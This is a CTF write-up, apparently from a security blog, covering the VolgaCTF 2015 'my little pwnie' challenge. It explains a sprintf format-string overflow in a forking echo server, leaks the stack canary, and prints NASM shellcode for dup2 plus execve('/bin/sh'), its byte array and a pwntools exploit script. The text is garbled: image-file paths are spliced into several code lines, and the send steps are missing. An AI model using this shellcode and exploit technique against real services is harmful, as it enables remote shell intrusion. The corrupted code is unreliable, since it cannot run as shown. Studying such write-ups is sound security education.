Hacking Tube

Site no longer updated. Migrated to https://bruce30262.github.io/

VolgaCTF 2015 Quals -- my little pwnie

| Comments

Category: Pwn
Points: 250

Just another pwn task. Break in!
nc pwnie.2015.volgactf.ru 7777

I solve the challenge after the end of the CTF, because I think this is a great challenge for practicing format string and sprintf BOF vulnerability. Special thanks to Lays for putting the exploit on the trello and let me have time to study the challenge.

We got a 32 bit ELF, with stack guard enabled, but no NX.

It's a simple echo server. Whenever someone connect to it, it fork a process to handle the request. First it ask us to input some string, and then it echo the string back to us.

Launch it with IDA Pro and take a look at it:

int __cdecl start_echo(int fd)
  int result; // eax@4
  int v2; // esi@4
  int i; // [sp+18h] [bp-A0h]@1
  int v4; // [sp+1Ch] [bp-9Ch]@1
  int v5; // [sp+20h] [bp-98h]@1
  char v6; // [sp+24h] [bp-94h]@1
  int v7; // [sp+9Ch] [bp-1Ch]@1

  v7 = *MK_FP(__GS__, 20);
  send_to_user(fd, "This is a simple echo server. Type exit to quit.\n");
  v4 = 'ohcE';
  v5 = ' :';
  memset(&v6, 0, 120u);
  for ( i = 1; i; i = echoing((char *)&v4, fd) )
  result = 0;
  v2 = *MK_FP(__GS__, 20) ^ v7;
  return result;

So, the start_echo() will call echoing(v4, fd) , which v4 is a pointer to char

Let's take a look at the echoing() function:

int __cdecl echoing(char *a1, int fd)
  int result; // eax@2
  int v3; // ecx@10int v4; // [sp+20h] [bp-58h]@3
  char *i; // [sp+24h] [bp-54h]@3
  char user_input[64]; // [sp+2Ch] [bp-4Ch]@1
  int v7; // [sp+6Ch] [bp-Ch]@1

  v7 = *MK_FP(__GS__, 20);
  send_to_user(fd, "Type string to echo back: ");
  memset(user_input, 0, 64u);
  if ( recv(fd, user_input, 63u, 0) )
    v4 = strcmp(user_input, "exit\n");
    for ( i = user_input; &user_input[strlen(user_input)] > i; ++i )
      if ( *i == 'n' )
        *(_DWORD *)a1 = 'ts I';*((_DWORD *)a1 + 1) = ' pir';
        *((_DWORD *)a1 + 2) = 'siht';
        *((_DWORD *)a1 + 3) = 'fwa ';
        *((_DWORD *)a1 + 4) = 's lu';
        *((_DWORD *)a1 + 5) = 'obmy';
        *((_WORD *)a1 + 12) = '\nl';
        a1[26] = 0;
        v4 = 0;
        goto LABEL_9;
    sprintf(a1 + 6, user_input);
    send_to_user(fd, a1);
    result = v4;
    fwrite("Failed to read socket\n", 1u, 0x16u, stderr);
    result = -1;
  v3 = *MK_FP(__GS__, 20) ^ v7;
  return result;

So we found that there's a format string vulnerability at the line

sprintf(a1 + 6, user_input);

But notice that the program will filter out the character 'n', which means we can't use %n to write the memory.Fortunately, the vulnerability's happened in sprintf, not printf.
sprintf(a1 + 6, user_input) means the user_input will be output to buffer a1 (the one that start_echo pass into echoing).

This behavior can be view as the program copy user_input's content to a1. If we input string "%45c", the program will output 45 characters to a1, which is, copy 45 characters to a1.

So if we construct the payload stringcarefully, we can overwrite the return address in start_echo(). First we'll have to leak the stack canary. After checking the memory by using gdb, we can found that the canary is at %26$p. We also need to leak start_echo()'s ebp too, since we need to calculate the address of a1 ( which is on the stack in function start_echo() ). We found that ebp is at %29$p.

So by leaking canary & start_echo()'s ebp , we can construct our payload now. But there're some details we need to be aware of:
1. sprintf will stop at null byte. That is, when sprintf encounter a null byte, it will write the null byte to the buffer and stop.
2. So, since the first byte of the canary is always null byte, we'll have to modify the canary first, so sprintf will continue writing bytes to buffer and let us overwrite the return address.
3. After we overwrite the return address, we'll have to change the canary back to its correct value, by sending another payload string to sprintf.
4. Don't forget to write the fd too, or else it will be overwritten to null byte (thanks to sprintf apparently )

Here's the payload string:

canary |= 0x41 # remove the null byte first

payload = "%122c" # padding to canary

payload += p32(canary)
payload += "A"*28 # padding to return address

payload += p32(buf) # return address set to buffer's address (=shellcode)

payload += p32(4) # fd

# send the first payload


payload = "%122c" # add the null byte back into the canary# send the second payload


So now we overwrite the return address of function start_echo() and let it jump to the buffer a1, which we can put our shellcode on it. But again, there're some limitations:1. It's a fork server, so we can't simply just execute execve("/bin/sh"). The problem cause by file descriptor will make us fail to execute our own command after we get the shell.
2. So, we'll have to construct a shellcode, which execute dup2(4, 0), dup2(4, 1) and dup2(4, 2) before executing execve("/bin/sh").
3. Don't forget the program will filter out the character 'n', so we'll have to do something with it.

For problem 3, my solution was construct a shellcode without having character 'n'. Or, you can just overwrite the return address to user_input, since the program doesn't modify the input, the original input string will still remain on the buffer.

Anyway, I choose to construct a shellcode without having character 'n'. Typically, during the shellcode construction for executing execve("/bin/sh"), we'll have the following assembly:

push 0x68732f2f     ; hs//
push 0x6e69622f     ; nib/

Which has 'n' in it. However, we can simply use xor to eliminate the character 'n'. Since 0x6e69622f = 0x91969dd0 ^ 0xffffffff, we canmodify the assembly into:

xor ecx, ecx
dec ecx ; ecx = 0xffffffff
xor ecx, 0x91969dd0 ; ecx = 0x6e69622f
push ecx

So here's the entire assembly:


global _start

_start:                     ; this is where code starts getting exec'ed
    xor ebx, ebx
    xor eax, eax
    xor ecx, ecx
    xor edx, edx
    mov bl, 0x4

    mov al, 0x3f ; dup2 syscall number
    int 0x80 ; dup2( ebx(=4), ecx(=0, 1, 2) )
    inc ecx
    cmp ecx, 0x3
    jne d
    ; execve(/bin/sh)
    xor eax, eax
    mov al, 0xb
    xor ecx, ecx
    push ecx
    push 0x68732f2f
    dec ecx ; ecx = 0xffffffffxor ecx, 0x91969dd0 ; 0xfffffff ^ 0x91969dd0 = 0x6e69622f
    push ecx
    mov ebx, esp
    xor ecx, ecx
    int 0x80

Finally, we have the exploit:

from pwn import *
import time# dup2(4, 0) + dup2(4, 1) + dup2(4, 2) + execve('/bin/sh'), 46 byte

shellcode =  [0x31, 0xdb, 0x31, 0xc0, 0x31,0xc9, 0x31, 0xd2, 0xb3, 0x04, 0xb0, 0x3f, 0xcd, 0x80, 0x41, 0x83, 0xf9, 0x03, 0x75, 0xf6, 0x31, 0xc0, 0xb0, 0x0b, 0x31, 0xc9, 0x51, 0x68, 0x2f, 0x2f, 0x73, 0x68, 0x49, 0x81, 0xf1, 0xd0, 0x9d, 0x96, 0x91, 0x51, 0x89, 0xe3, 0x31, 0xc9, 0xcd, 0x80]

# insert 0x90 in the left, make it length = 63

shellcode = ''.join(chr(c) for c in shellcode).rjust(63, "\x90")

r = remote(HOST, PORT)

r.recvuntil("echo back:")
log.info("leaking canary & ebp...")
resp = r.recv(1024)
resp = r.recv(1024)

canary = int(resp.split(".")[1], 16)
ebp = int(resp.split(".")[2], 16)
buf = ebp - 0x9c + 6 + 8log.success("canary: " + hex(canary))
log.success("ebp: " + hex(ebp))
log.success("buf: " + hex(buf))

r.recvuntil("echo back: ")

canary |= 0x41 # remove the null byte first

payload = "%122c" # padding to canary

payload +=p32(canary)
payload += "A"*28 # padding to return address

payload += p32(buf) # return address set to buffer's address (=shellcode)

payload += p32(4) # fd

log.info("sending payload...")

r.recvuntil("echo back: ")
payload = "%122c" # add the null byte back into the canary

log.info("correctingcanary...")

r.recvuntil("echo back: ")
log.info("sending shellcode...")

r.recvuntil("echo back: ")Great challenge, learn a lot from it!comments powered by Disqus